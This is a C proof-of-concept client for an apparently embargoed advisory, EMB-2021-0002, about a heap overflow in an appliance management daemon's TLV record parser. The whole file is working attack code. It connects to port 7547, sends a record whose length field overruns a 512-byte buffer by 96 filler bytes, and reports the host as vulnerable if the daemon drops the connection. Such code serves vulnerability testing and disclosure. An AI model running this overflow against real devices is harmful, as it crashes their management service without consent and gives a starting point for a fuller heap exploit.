/*
 * Proof of concept for EMB-2021-0002 (embargoed, benign): the record
 * parser of the appliance's management daemon trusts the length field of
 * a TLV record, so a record longer than its 512-byte buffer overflows the
 * heap.  This client sends one such record, with a harmless filler, to a
 * test appliance and reports whether the daemon dropped the connection.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netdb.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#define MGMT_PORT "7547"
#define RECORD_MAGIC 0x45424d47u
#define RECORD_TYPE_CONFIG 0x0102
#define BUFFER_SIZE 512
#define OVERFLOW_BY 96
#define FILLER 0x41

struct record_header {
	uint32_t magic;
	uint16_t type;
	uint16_t flags;
	uint32_t length;
	uint32_t checksum;
};

static uint32_t
checksum(const uint8_t *p, size_t n)
{
	uint32_t sum = 0x811c9dc5u;

	for (size_t i = 0; i < n; i++) {
		sum ^= p[i];
		sum *= 0x01000193u;
	}
	return sum;
}

static int
connect_to(const char *host, const char *port, int timeout_s)
{
	struct addrinfo hints, *res, *ai;
	struct timeval tv = {timeout_s, 0};
	int fd = -1, err;

	memset(&hints, 0, sizeof(hints));
	hints.ai_family = AF_UNSPEC;
	hints.ai_socktype = SOCK_STREAM;
	if ((err = getaddrinfo(host, port, &hints, &res)) != 0) {
		fprintf(stderr, "%s: %s\n", host, gai_strerror(err));
		return -1;
	}
	for (ai = res; ai != NULL; ai = ai->ai_next) {
		fd = socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
		if (fd < 0)
			continue;
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
		setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
		if (connect(fd, ai->ai_addr, ai->ai_addrlen) == 0)
			break;
		close(fd);
		fd = -1;
	}
	freeaddrinfo(res);
	return fd;
}

static size_t
build_record(uint8_t *out, size_t cap, size_t body_len)
{
	struct record_header h;
	size_t total = sizeof(h) + body_len;

	if (total > cap)
		return 0;
	memset(out + sizeof(h), FILLER, body_len);
	/* The daemon copies length bytes into a BUFFER_SIZE buffer. */
	h.magic = htonl(RECORD_MAGIC);
	h.type = htons(RECORD_TYPE_CONFIG);
	h.flags = htons(0);
	h.length = htonl((uint32_t)body_len);
	h.checksum = htonl(checksum(out + sizeof(h), body_len));
	memcpy(out, &h, sizeof(h));
	return total;
}

static int
send_all(int fd, const uint8_t *p, size_t n)
{
	while (n > 0) {
		ssize_t w = send(fd, p, n, MSG_NOSIGNAL);

		if (w < 0 && errno == EINTR)
			continue;
		if (w <= 0)
			return -1;
		p += w;
		n -= (size_t)w;
	}
	return 0;
}

static int
daemon_alive(int fd)
{
	uint8_t reply[64];
	ssize_t r = recv(fd, reply, sizeof(reply), 0);

	if (r > 0)
		return 1;
	return r == 0 || errno == ECONNRESET ? 0 : -1;
}

int
main(int argc, char **argv)
{
	uint8_t record[sizeof(struct record_header) + BUFFER_SIZE + OVERFLOW_BY];
	size_t n;
	int fd, alive;

	if (argc != 2) {
		fprintf(stderr, "usage: %s HOST\n", argv[0]);
		return 2;
	}
	fd = connect_to(argv[1], MGMT_PORT, 5);
	if (fd < 0) {
		fprintf(stderr, "cannot connect to %s:%s\n", argv[1], MGMT_PORT);
		return 2;
	}
	n = build_record(record, sizeof(record), BUFFER_SIZE + OVERFLOW_BY);
	if (n == 0 || send_all(fd, record, n) < 0) {
		fprintf(stderr, "send failed: %s\n", strerror(errno));
		close(fd);
		return 2;
	}
	alive = daemon_alive(fd);
	close(fd);
	if (alive == 0) {
		printf("VULNERABLE: the daemon dropped the connection\n");
		return 1;
	}
	printf("not vulnerable (daemon answered)\n");
	return 0;
}
